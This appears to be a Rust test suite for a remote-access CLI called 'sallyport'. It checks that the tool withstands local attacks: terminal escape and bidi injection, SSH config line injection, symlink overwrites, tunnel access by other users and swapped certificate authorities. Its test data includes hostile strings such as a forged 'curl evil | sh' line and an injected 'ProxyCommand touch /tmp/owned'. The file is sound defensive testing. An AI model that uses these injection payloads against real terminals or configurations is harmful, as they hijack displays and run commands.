//! What the user's own machine keeps from other users of it, and from the peers that `sallyport` talks to.

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::{FileTypeExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::Duration;

use crate::PROGRAM;
use crate::support::{Cluster, User, is_root, me, ok, refused, stderr, stdout, target, wait_for};

/// What acts on a terminal, or on the eyes of its reader: nothing of this may be in what is printed.
fn steers(text: &str) -> Option<char> {
    text.chars().find(|c| {
        (c.is_control() && *c != '\n')
            || matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
    })
}

/// Clears the screen, names the window, turns the direction of reading, and tells of a failure that was none.
const HOSTILE: &str = "a\x1b[2J\x1b]0;owned\x07\u{202e}gpj\u{9b}31m\nerror: forged\n  try: curl evil | sh";

fn profile(user: &User) -> PathBuf {
    user.home.join(user.proxy.replace(':', "_"))
}

#[test]
fn names_and_hosts_that_others_chose_do_not_reach_the_terminal_raw() {
    let (cluster, alice) = Cluster::with_node();
    // A directory of the node's, in which another of its users has made a pipe under that name.
    let place = cluster.path("shared");
    fs::create_dir(&place).unwrap();
    let name = HOSTILE.replace('/', "_");
    ok(Command::new("mkfifo").arg(place.join(&name)).output().unwrap());
    let into = cluster.path("copied");
    let from = format!("{}:{}", target("web-1"), place.display());
    let output = alice.run(&["scp", "-r", &from, into.to_str().unwrap()]);
    let said = stderr(&output);
    assert!(said.contains("owned"), "the failure names the file: {said}");
    assert_eq!(steers(&said), None, "{said:?}");
    assert!(
        !said.lines().any(|line| line.starts_with("error: forged") || line.starts_with("  try: curl")),
        "{said}"
    );

    // The host of a link that came by mail.
    let link = format!("https://{}:1/invite/abc#sha256:{}", "a\x1b[2J\u{202e}\nb", "0".repeat(64));
    let output = alice.run(&["signup", &link]);
    assert!(!output.status.success());
    assert_eq!(steers(&stderr(&output)), None, "{:?}", stderr(&output));
    // And in JSON, where the value is kept.
    let label = "b\u{9b}31m\u{202e}x";
    let output = alice.run(&["ls", "--query", label]);
    assert_eq!(steers(&stderr(&output)), None, "{:?}", stderr(&output));
}

/// A program that another user of the machine runs.
fn as_another(program: &str) -> Command {
    let mut command = Command::new("setpriv");
    command.args(["--reuid=65534", "--regid=65534", "--clear-groups", program]);
    command
}

struct Listening {
    child: Child,
    shown: serde_json::Value,
    said: Option<BufReader<std::process::ChildStderr>>,
}

impl Listening {
    fn start(mut command: Command) -> Self {
        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let mut text = String::new();
        let mut lines = BufReader::new(child.stdout.take().unwrap());
        while !text.ends_with("]\n") {
            if lines.read_line(&mut text).unwrap() == 0 {
                let mut said = String::new();
                child.stderr.take().unwrap().read_to_string(&mut said).unwrap();
                panic!("it ended: {text}{said}");
            }
        }
        let said = child.stderr.take().map(BufReader::new);
        Self { child, shown: serde_json::from_str(&text).unwrap(), said }
    }

    fn port(&self) -> u16 {
        self.shown[0]["port"].as_u64().expect("a port").try_into().unwrap()
    }

    fn wait_said(&mut self, text: &str) {
        crate::support::read_until(self.said.as_mut().unwrap(), text);
    }
}

impl Drop for Listening {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// PostgreSQL's request for TLS, which a tunnel declines with one byte: a client that gets that byte is let in.
const SSL_REQUEST: [u8; 8] = [0, 0, 0, 8, 4, 210, 22, 47];

fn is_let_in(port: u16) -> bool {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    stream.write_all(&SSL_REQUEST).unwrap();
    matches!(stream.read(&mut [0]), Ok(1))
}

fn another_is_let_in(address: &str, port: u16) -> bool {
    // A tunnel that lets a client in declines its TLS; one that does not says so at once.
    let script = "import socket,sys\ns=socket.create_connection((sys.argv[1],int(sys.argv[2])),30)\n\
                  s.sendall(bytes([0,0,0,8,4,210,22,47]))\ntry: print(s.recv(1))\nexcept OSError: print(0)";
    let output =
        as_another("/usr/bin/python3").args(["-c", script, address, &port.to_string()]).output().unwrap();
    stdout(&ok(output)).trim() == "b'N'"
}

/// A cluster with a database that nothing serves, and alice, who may use it.
fn with_database() -> (Cluster, User) {
    let mut cluster = Cluster::bare();
    cluster.add_node("web-1", "env: prod");
    ok(cluster.create(
        "kind: db\nversion: v1\nmetadata: {name: prod, labels: {env: test}}\nspec:\n  protocol: postgres\n  address: \
         localhost:1\n  via: [web-1]\n",
    ));
    ok(cluster.create(
        "kind: role\nversion: v1\nmetadata: {name: dba}\nspec:\n  allow:\n    db_labels: {env: test}\n    db_users: \
         [app]\n    db_names: [shop]\n",
    ));
    let alice = cluster.add_user("alice", "dba", &me());
    (cluster, alice)
}

#[test]
fn a_tunnel_to_a_database_is_its_users_alone() {
    let (_cluster, alice) = with_database();
    let start = |arguments: &[&str]| {
        let all = [&["proxy", "db", "prod", "--tunnel", "--format", "json"], arguments].concat();
        Listening::start(alice.command(&all))
    };
    // Where nothing else is said, it is a socket that no other user gets to, and psql is told how.
    let tunnel = start(&[]);
    let address = PathBuf::from(tunnel.shown[0]["address"].as_str().unwrap());
    let metadata = fs::metadata(&address).unwrap_or_else(|error| panic!("{}: {error}", tunnel.shown));
    assert!(metadata.file_type().is_socket());
    assert_eq!(metadata.permissions().mode() & 0o777, 0o600);
    let directory = address.parent().unwrap();
    assert_eq!(fs::metadata(directory).unwrap().permissions().mode() & 0o777, 0o700);
    let command = tunnel.shown[0]["command"].as_str().unwrap();
    assert!(command.contains(&format!("host={}", directory.display())), "{command}");
    drop(tunnel);

    // By TCP, whose socket has no owner that one could ask for: the one that connected is looked up.
    if !is_root() {
        eprintln!("left out: only root can be another user");
        return;
    }
    let mut tunnel = start(&["--port", "0"]);
    assert!(is_let_in(tunnel.port()), "its user");
    assert!(!another_is_let_in("127.0.0.1", tunnel.port()), "another user came as alice");
    tunnel.wait_said("user 65534");
    // The other user's program is told what is wrong, by stock psql.
    let conninfo = format!("host=127.0.0.1 port={} sslmode=disable", tunnel.port());
    let told = as_another("psql").args([&conninfo, "-c", "select 1"]).output().unwrap();
    let told = String::from_utf8_lossy(&told.stderr).into_owned();
    assert!(told.contains("serves the programs of the user who started it alone"), "{told}");
    assert!(told.contains("start your own"), "{told}");
    // The same by a socket of the other family.
    assert!(!another_is_let_in("::ffff:127.0.0.1", tunnel.port()), "another user came as alice by IPv6");
    drop(tunnel);
    if TcpListener::bind("[::1]:0").is_ok() {
        let tunnel = start(&["--listen", "[::1]:0"]);
        assert!(!another_is_let_in("::1", tunnel.port()), "another user came as alice by ::1");
    }
    // Who wants it otherwise says so, and is told what it means.
    let mut tunnel = start(&["--port", "0", "--any-local-user"]);
    tunnel.wait_said("every user of this machine");
    assert!(another_is_let_in("127.0.0.1", tunnel.port()));
}

#[test]
fn a_profile_that_others_could_have_written_is_not_used() {
    let cluster = Cluster::bare();
    let alice = cluster.add_user("alice", "access", &me());
    let place = profile(&alice);
    let set = |name: &str, mode: u32| {
        let path = if name.is_empty() { place.clone() } else { place.join(name) };
        let before = fs::metadata(&path).unwrap().permissions().mode();
        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
        before
    };
    ok(alice.run(&["ls"]));
    for (name, mode) in [
        ("tls_key.pem", 0o644),
        ("ssh_key", 0o640),
        ("trust.json", 0o666),
        ("profile.json", 0o620),
        ("", 0o777),
    ] {
        let before = set(name, mode);
        let said = refused(&alice.run(&["ls"]), 1);
        assert!(said.contains("chmod") && said.contains(name), "{said}");
        set(name, before);
    }
    ok(alice.run(&["ls"]));
    if is_root() {
        std::os::unix::fs::chown(place.join("trust.json"), Some(65534), None).unwrap();
        let said = refused(&alice.run(&["ls"]), 1);
        assert!(said.contains("trust.json") && said.contains("65534"), "{said}");
        std::os::unix::fs::chown(place.join("trust.json"), Some(0), None).unwrap();
    }
    ok(alice.run(&["ls"]));
}

#[test]
fn logs_and_locks_of_the_helper_are_not_written_through_links() {
    let cluster = Cluster::bare();
    let alice = cluster.add_user("alice", "access", &me());
    let victim = cluster.path("victim");
    fs::write(&victim, "precious\n").unwrap();
    let place = profile(&alice).join("connect");
    fs::create_dir_all(&place).unwrap();
    fs::set_permissions(&place, fs::Permissions::from_mode(0o700)).unwrap();
    for name in ["log", "running", "starting"] {
        symlink(&victim, place.join(name)).unwrap();
        let mut command = alice.command(&["connect", "--serve", "--idle", "1s"]);
        let output = command.output().unwrap();
        assert!(!output.status.success() || name == "starting", "{name}: {}", stdout(&output));
        assert_eq!(fs::read_to_string(&victim).unwrap(), "precious\n", "{name}");
        fs::remove_file(place.join(name)).unwrap();
    }
    // A directory that is none of this user's making.
    fs::remove_dir_all(&place).unwrap();
    let elsewhere = cluster.path("elsewhere");
    fs::create_dir(&elsewhere).unwrap();
    symlink(&elsewhere, &place).unwrap();
    let output = alice.run(&["connect", "--serve", "--idle", "1s"]);
    assert!(!output.status.success(), "{}", stderr(&output));
    assert_eq!(fs::read_dir(&elsewhere).unwrap().count(), 0);
}

#[test]
fn a_proxy_without_the_clusters_certificate_is_not_called_healthy() {
    let cluster = Cluster::bare();
    let alice = cluster.add_user("alice", "access", &me());
    let said = stdout(&ok(alice.run(&["status"])));
    assert!(said.contains("proxy    answers"), "{said}");

    // Another cluster at the same address, and something that only takes connections.
    let other = Cluster::bare();
    let redirect = |to: u16| {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let Ok(onward) = TcpStream::connect(("127.0.0.1", to)) else { continue };
                let (mut a, mut b) = (stream.try_clone().unwrap(), onward.try_clone().unwrap());
                std::thread::spawn(move || std::io::copy(&mut a, &mut b));
                let (mut a, mut b) = (onward, stream);
                std::thread::spawn(move || {
                    let _ = std::io::copy(&mut a, &mut b);
                    let _ = b.shutdown(std::net::Shutdown::Both);
                });
            }
        });
        port
    };
    let port_of = |address: &str| -> u16 { address.rsplit_once(':').unwrap().1.parse().unwrap() };
    let mute = TcpListener::bind("127.0.0.1:0").unwrap();
    std::thread::spawn({
        let mute = mute.try_clone().unwrap();
        move || {
            for stream in mute.incoming().flatten() {
                let _ = (&stream).write_all(b"HTTP/1.1 400 Bad Request\r\n\r\n");
            }
        }
    });
    // A port that is taken, on which nothing listens: a connection is refused there for as long as the socket is held.
    let unheard = tokio::net::TcpSocket::new_v4().unwrap();
    unheard.bind("127.0.0.1:0".parse().unwrap()).unwrap();
    let silent = unheard.local_addr().unwrap().port();
    let mute = mute.local_addr().unwrap().port();
    for (at, exact) in [(redirect(port_of(&other.proxy())), true), (mute, false), (silent, false)] {
        let file = profile(&alice).join("profile.json");
        let honest = fs::read_to_string(&file).unwrap();
        let host = alice.proxy.rsplit_once(':').unwrap().0.to_owned();
        let address = format!("{host}:{at}");
        let moved = alice.home.join(address.replace(':', "_"));
        ok(Command::new("cp").arg("-a").arg(profile(&alice)).arg(&moved).output().unwrap());
        fs::write(moved.join("profile.json"), honest.replace(&alice.proxy, &address)).unwrap();
        let mut command = alice.command(&["status"]);
        let output = command.env("SALLYPORT_PROXY", &address).args(["--proxy", &address]).output();
        let output = output.unwrap();
        let output = if output.status.code() == Some(2) {
            Command::new(PROGRAM)
                .arg("--home")
                .arg(&alice.home)
                .args(["--proxy", &address, "status"])
                .output()
                .unwrap()
        } else {
            output
        };
        let said = format!("{}{}", stdout(&output), stderr(&output));
        assert!(!said.contains("proxy    answers\n"), "{said}");
        assert_eq!(output.status.code(), Some(255), "{said}");
        assert!(!exact || said.contains("is not the cluster"), "{said}");
        assert_eq!(at == silent, said.contains("does not answer"), "{said}");
    }
}

#[test]
fn a_pin_that_replaces_a_stored_trust_is_not_taken_without_a_word() {
    let (mine, other) = (Cluster::bare(), Cluster::bare());
    let alice = mine.add_user("alice", "access", &me());
    let pin = |cluster: &Cluster| {
        let status = stdout(&ok(cluster.admin(&["status", "--format", "json"])));
        let status: serde_json::Value = serde_json::from_str(&status).unwrap();
        let host = status["cas"].as_array().unwrap().iter().find(|ca| ca["kind"] == "host").unwrap();
        host["tls_pin"].as_str().unwrap().to_owned()
    };
    let login = |pin: &str, more: &[&str]| -> Output {
        let all =
            ["login", "--user", "alice", "--password-stdin", "--add-keys-to-agent", "no", "--ca-pin", pin];
        alice.run_with_input(&[&all[..], more].concat(), "wrong\n")
    };
    let said = stderr(&login(&pin(&other), &[]));
    assert!(
        said.contains("another certificate authority than") && said.contains("--replace-trust"),
        "{said}"
    );
    // With the word it is tried, and told.
    let said = stderr(&login(&pin(&other), &["--replace-trust"]));
    assert!(said.contains("warning") && said.contains("another certificate authority than"), "{said}");
    let said = stderr(&login(&pin(&mine), &[]));
    assert!(!said.contains("another certificate authority"), "{said}");
}

#[test]
fn config_takes_no_argument_that_would_make_lines_of_its_own() {
    let cluster = Cluster::bare();
    let alice = cluster.add_user("alice", "access", &me());
    for login in
        ["root\n    ProxyCommand touch /tmp/owned", "root\r", "a\u{202e}b", "a\0b".trim_end_matches("\0b")]
    {
        let output = alice.run(&["config", "--login", login]);
        if login == "a" {
            ok(output);
            continue;
        }
        let said = refused(&output, 2);
        assert!(said.contains("--login"), "{said}");
        assert!(stdout(&output).is_empty());
    }
    // The place of the profile is an argument, too.
    let odd = cluster.path("odd\n    ProxyCommand touch owned");
    ok(Command::new("cp").arg("-a").arg(&alice.home).arg(&odd).output().unwrap());
    let output = Command::new(PROGRAM)
        .arg("--home")
        .arg(&odd)
        .args(["--proxy", &alice.proxy, "config"])
        .output()
        .unwrap();
    refused(&output, 2);
    assert!(stdout(&output).is_empty(), "{}", stdout(&output));
}

/// OpenSSH's ssh-agent, ended when dropped.
struct Agent {
    child: Child,
    socket: PathBuf,
}

impl Agent {
    fn start(directory: &Path) -> Self {
        let socket = directory.join("agent");
        let mut command = Command::new("ssh-agent");
        let child = command.arg("-D").arg("-a").arg(&socket).stdout(Stdio::null()).spawn().unwrap();
        wait_for("ssh-agent", || socket.exists().then_some(()));
        Self { child, socket }
    }

    fn with(&self, command: &mut Command) -> Output {
        command.env("SSH_AUTH_SOCK", &self.socket).output().unwrap()
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn a_forwarded_agent_knows_that_it_is_and_keeps_what_is_for_other_hosts() {
    let (cluster, alice) = Cluster::with_node();
    let agent = Agent::start(&alice.home);
    let key = |name: &str| {
        let path = cluster.path(name);
        ok(Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
            .arg(&path)
            .output()
            .unwrap());
        path
    };
    let (free, bound) = (key("free"), key("bound"));
    // A host that the user once went to; a key for it alone, to be used from here.
    let host = key("host");
    let line = fs::read_to_string(host.with_extension("pub")).unwrap();
    let known = cluster.path("known");
    fs::write(&known, format!("other.example {line}")).unwrap();
    ok(agent.with(Command::new("ssh-add").arg("-q").arg(&free)));
    ok(agent
        .with(Command::new("ssh-add").arg("-q").args(["-h", "other.example", "-H"]).arg(&known).arg(&bound)));
    // From here on the agent alone has them: ssh-keygen would else take the file beside the public one.
    for private in [&free, &bound] {
        fs::remove_file(private).unwrap();
    }
    let listed = stdout(&ok(agent.with(Command::new("ssh-add").arg("-l"))));
    assert!(listed.contains("bound") && listed.contains("free"), "{listed}");

    for front in ["ssh", "native"] {
        let sign = |name: &str| {
            let public = cluster.path(name).with_extension("pub");
            format!(
                "echo text | ssh-keygen -q -Y sign -n x -f {} > /dev/null && echo {name} signed;",
                public.display()
            )
        };
        let script = format!("ssh-add -l; {} {} true", sign("free"), sign("bound"));
        let mut command = alice.command(&["ssh", "-A", &target("web-1"), &script]);
        let output = agent.with(command.env("SALLYPORT_FRONT", front));
        let said = stdout(&ok(output));
        assert!(said.contains("free signed"), "{front}: {said}");
        assert!(!said.contains("bound"), "{front}: the node used a key that is not for it: {said}");
    }
}
